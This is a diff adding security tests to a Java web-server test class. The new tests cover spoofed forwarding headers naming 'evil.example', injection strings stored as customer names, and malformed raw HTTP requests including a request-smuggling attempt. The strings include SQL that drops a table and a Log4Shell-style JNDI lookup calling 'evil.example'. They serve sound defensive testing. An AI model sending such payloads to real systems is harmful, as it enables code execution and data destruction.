@@ -29,6 +29,7 @@ class GateTest {
     server.close();
   }
 
+  /** B45: no page of another site frames ours. */
   @Test
   void everyAnswerCarriesTheHeadersOfAStrictPage() {
     var browser = server.browser();
@@ -102,6 +103,71 @@ class GateTest {
           .as(other)
           .isIn(400, 421);
     }
+  }
+
+  @Test
+  void b46WhatAnybodyMayWriteAboutWhereARequestCameFromIsNotBelieved() {
+    var browser = server.browser();
+    var form = "email=ines%40anubis.example&password=" + TestServer.PASSWORD.replace(" ", "+");
+    var in =
+        browser.send(
+            browser
+                .request("/sign-in")
+                .header("Origin", server.origin())
+                .header("X-Forwarded-For", "192.0.2.1")
+                .header("X-Forwarded-Proto", "https")
+                .header("X-Forwarded-Host", "evil.example")
+                .header("Forwarded", "host=evil.example;proto=https")
+                .header("X-Forwarded-User", "owner")
+                .header("Content-Type", "application/x-www-form-urlencoded")
+                .POST(BodyPublishers.ofString(form)));
+    assertThat(in.headers().firstValue("Set-Cookie")).get().asString().startsWith("valuegap=");
+    var member = Map.of("name", "Greta", "email", "greta@anubis.example", "role", "VIEWER");
+    var ines = server.owner();
+    assertThat(ines.post("/settings/members", member).body())
+        .contains(server.origin() + "/join?code=")
+        .doesNotContain("evil");
+  }
+
+  @Test
+  void b75WhatLooksLikeCodeIsText() {
+    var ines = server.owner();
+    for (var code :
+        List.of(
+            "' OR 1=1; DROP TABLE person; --",
+            "${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
+            "${jndi:ldap://evil.example/x}",
+            "*)(uid=*))(|(uid=*",
+            "{0, plural, one {#} other {#}} '{' ''")) {
+      var made = ines.post("/customers/new", Map.of("name", code, "position", code));
+      var page = ines.get(made.headers().firstValue("Location").orElseThrow());
+      assertThat(page.statusCode()).as(code).isEqualTo(200);
+      assertThat(page.body().replace("&#39;", "'").replace("&#34;", "\"").replace("&gt;", ">"))
+          .contains(code.replace("<%", "&lt;%"));
+    }
+    assertThat(ines.get("/customers").body()).doesNotContain(">49 ");
+  }
+
+  @Test
+  void b76WhatIsNoRequestIsRefused() throws IOException {
+    var host = "Host: 127.0.0.1:%d\r\n";
+    var long40k = "X-Long: " + "x".repeat(40_000) + "\r\n";
+    assertThat(status("GET /sign-in HTTP/1.1\r\n" + host + long40k)).isIn(400, 431);
+    assertThat(status("GET /" + "x".repeat(40_000) + " HTTP/1.1\r\n" + host)).isIn(400, 414);
+    var both = "Content-Length: 4\r\nTransfer-Encoding: chunked, identity\r\n";
+    assertThat(status("POST /sign-in HTTP/1.1\r\n" + host + both)).isIn(400, 403, 501);
+    assertThat(status("POST /sign-in HTTP/1.1\r\n" + host + "Content-Length: -1\r\n"))
+        .isEqualTo(400);
+    assertThat(status("GET /sign-in HTTP/1.1\r\n" + host + host)).isEqualTo(400);
+    assertThat(status("TRACE /sign-in HTTP/1.1\r\n" + host)).isIn(400, 403, 405);
+    var many = "a=b&".repeat(20_000);
+    var ines = server.owner();
+    var sent =
+        ines.request("/customers/new")
+            .header("Origin", server.origin())
+            .header("Content-Type", "application/x-www-form-urlencoded")
+            .POST(BodyPublishers.ofString(many));
+    assertThat(ines.send(sent).statusCode()).isIn(400, 413, 422);
   }
 
   @Test
